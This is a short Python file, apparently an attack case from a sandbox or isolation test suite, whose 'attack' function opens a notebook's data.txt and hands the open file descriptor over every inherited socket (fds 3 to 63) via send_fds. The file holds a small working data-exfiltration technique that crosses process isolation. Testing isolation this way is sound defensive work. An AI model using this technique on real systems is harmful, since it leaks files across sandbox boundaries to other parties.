"""Send an open file over every socket that was inherited."""

import contextlib
import os
import socket


def attack(target):
    own = os.open(f"{target.notebook}/data.txt", os.O_RDONLY)
    for number in range(3, 64):
        with contextlib.suppress(OSError):
            inherited = socket.socket(fileno=os.dup(number))
            inherited.setblocking(False)
            socket.send_fds(inherited, [b"\0"], [own])
    return None
